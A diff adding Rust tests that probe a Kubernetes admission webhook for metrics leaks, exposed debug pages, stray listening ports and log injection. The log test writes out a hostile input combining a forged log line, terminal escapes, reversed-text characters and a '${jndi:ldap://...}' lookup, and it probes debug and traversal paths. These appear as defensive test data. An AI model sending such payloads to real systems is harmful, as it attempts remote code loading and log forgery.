@@ -1,0 +1,144 @@
+//! # Outside: items 25, 26 and 27
+//! Room:     what the running webhook shows to whoever comes by: metrics, pages, ports; what it writes into its log.
+//! Comes in: the ground, after all others had their way with it.
+//! Goes out: findings.
+//! Not here: the controllers' metrics and log (`taintward-controller`).
+
+use super::elsewhere::stands;
+use super::ground::{Found, Ground, Shown, demand};
+use crate::admission::client::{Client, believing, question};
+use crate::admission::hook::{Files, Hook, all};
+use crate::admission::register::plain_pod;
+use serde_json::{Value, json};
+use std::collections::BTreeSet;
+use std::fs;
+
+/// Labels whose values others choose.
+const OTHERS: [&str; 8] = ["pod=", "node=", "value=", "namespace=", "user=", "uid=", "name=", "key="];
+
+/// Names of series, with their labels.
+fn series(ground: &Ground) -> BTreeSet<String> {
+    let (_, page) = ground.hook.get("/metrics").unwrap_or_default();
+    let lines = page.lines().filter(|line| !line.starts_with('#'));
+    lines.filter_map(|line| Some(line.rsplit_once(' ')?.0.to_owned())).collect()
+}
+
+pub(crate) async fn metrics(ground: &Ground) -> Found {
+    let before = series(ground);
+    let mut client = ground.client().await;
+    for number in 0..300 {
+        let pod = plain_pod(&format!("counted-{number}"));
+        client.ask("mutate", &question(&format!("counted-{number}"), "main", &pod)).await;
+    }
+    let after = series(ground);
+    demand(before.len() > 20 && before == after, format!("{:?} came up", after.difference(&before)))?;
+    let of_others = |series: &&String| {
+        let labels = series.split_once('{').map(|(_, labels)| labels).unwrap_or_default();
+        labels.split(',').any(|label| OTHERS.iter().any(|other| label.starts_with(other)))
+    };
+    let found: Vec<_> = after.iter().filter(of_others).collect();
+    demand(found.is_empty(), format!("{found:?}"))?;
+    let (_, page) = ground.hook.get("/metrics").unwrap_or_default();
+    demand(!page.contains("eyJ") && !page.contains("PRIVATE"), "a secret is told")?;
+    let shown = "fn every_series_is_there_from_the_start_and_none_comes_later";
+    stands("crates/controller/src/metrics/tests.rs", shown)?;
+    let found = "of the webhook, on its page: the same series after 300 more pods, none with a pod's, node's, user's or taint's \
+                 words, no token or key; of the controllers in the gate (`taintward-controller --lib -- every_series`)";
+    Ok(Shown::with(found, format!("{} series", after.len())))
+}
+
+/// What is asked for in vain.
+const NO_PAGES: [&str; 8] = [
+    "/debug",
+    "/debug/pprof/",
+    "/debug/pprof/heap",
+    "/flagz",
+    "/statusz",
+    "/configz",
+    "/admin",
+    "/metrics/../debug",
+];
+
+pub(crate) async fn pages(ground: &Ground) -> Found {
+    for path in NO_PAGES {
+        let status = ground.hook.get(path).map(|(status, _)| status);
+        demand(status == Some(404), format!("{path} at the port of metrics: {status:?}"))?;
+        let answer = ground.client().await.get(path).await.map_err(|why| why.to_string())?;
+        demand(answer.0 == 404, format!("{path} at the port of questions: {}", answer.0))?;
+    }
+    let (mine, told) = (listening(ground.hook.pid()).map_err(|why| why.to_string())?, ground.hook.ports());
+    demand(mine == BTreeSet::from(told), format!("it listens at {mine:?}, not at {told:?}"))?;
+    Ok("404 at both ports for `/debug`, pprof, `/flagz`, `/admin` and others; it listens at two ports, those of its flags".into())
+}
+
+/// Ports at which a process listens: sockets of its own among those of its network.
+fn listening(pid: u32) -> std::io::Result<BTreeSet<u16>> {
+    let mut sockets = BTreeSet::new();
+    for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
+        let Ok(target) = fs::read_link(entry?.path()) else { continue };
+        let target = target.to_string_lossy();
+        sockets
+            .extend(target.strip_prefix("socket:[").and_then(|it| it.strip_suffix(']')).map(str::to_owned));
+    }
+    let mut ports = BTreeSet::new();
+    for table in ["tcp", "tcp6"] {
+        // Number, local address, remote address, state (0A: it listens), ..., inode.
+        for line in fs::read_to_string(format!("/proc/{pid}/net/{table}"))?.lines().skip(1) {
+            let fields: Vec<&str> = line.split_whitespace().collect();
+            let port = fields[1].rsplit_once(':').and_then(|(_, port)| u16::from_str_radix(port, 16).ok());
+            if fields[3] == "0A" && sockets.contains(fields[9]) {
+                ports.extend(port);
+            }
+        }
+    }
+    Ok(ports)
+}
+
+const HOSTILE: &str = "a\nE0101 forged\r\u{1b}[31m\u{202e}${jndi:ldap://192.0.2.1/x}\0";
+
+/// One of its own, which logs all it can.
+pub(crate) async fn log(ground: &Ground) -> Found {
+    let flags = Files::new(&ground.cluster, "loud", &ground.authority).flags();
+    let hook = Hook::start(&ground.cluster, &ground.account, &all(&flags, &["--v=10"])).ready().await;
+    let who = believing(&ground.authority.certificate, None);
+    let mut client = Client::connect(hook.port, &who).await.map_err(|why| why.to_string())?;
+    let mut pod = plain_pod("p");
+    for pointer in ["name", "namespace", "generateName"] {
+        pod["metadata"][pointer] = HOSTILE.into();
+    }
+    pod["spec"]["nodeName"] = HOSTILE.into();
+    pod["spec"]["tolerations"] =
+        json!([{"key": HOSTILE, "operator": HOSTILE, "value": HOSTILE, "effect": HOSTILE}]);
+    let mut asked = question(HOSTILE, "main", &pod);
+    asked["request"]["userInfo"] = json!({"username": HOSTILE, "groups": [HOSTILE]});
+    for path in ["/mutate", "/validate"] {
+        for body in [asked.to_string(), asked.to_string().replace("\"spec\":{", "\"spec\":{\"x\":NaN,")] {
+            let _ = client.post(path, body).await;
+        }
+        asked["request"]["namespace"] = HOSTILE.into();
+        asked["request"]["operation"] = HOSTILE.into();
+        let _ = client.post(path, asked.to_string()).await;
+    }
+    let output = hook.output();
+    for line in output.lines() {
+        let record: Result<Value, _> = serde_json::from_str(line);
+        demand(record.is_ok_and(|record| record.is_object()), format!("no record: {line:?}"))?;
+        demand(!line.chars().any(char::is_control) && !line.contains('\u{202e}'), format!("{line:?}"))?;
+    }
+    let lines = output.lines().count();
+    demand(lines > 20, format!("it says little: {output}"))?;
+    stands(
+        "crates/controller/src/logging/tests.rs",
+        "fn hostile_values_stay_on_their_line_and_in_their_quotes",
+    )?;
+    let kubeconfig = fs::read_to_string(&ground.account).map_err(|why| why.to_string())?;
+    let token =
+        kubeconfig.lines().find_map(|line| line.trim().strip_prefix("token: ")).ok_or("it has no token")?;
+    for secret in [token, "Bearer", "PRIVATE KEY"] {
+        demand(!output.contains(secret), "a secret is in the log")?;
+    }
+    let found = "the webhook at `--v=10`, asked about names, keys, users and uids with line ends, escapes, `${jndi:` and reversed text: \
+                 each line of its log is one JSON record without control characters, and neither its token nor a key is in it; of the \
+                 controllers in the gate (`taintward-controller --lib -- logging`)";
+    Ok(Shown::with(found, format!("{lines} lines")))
+}
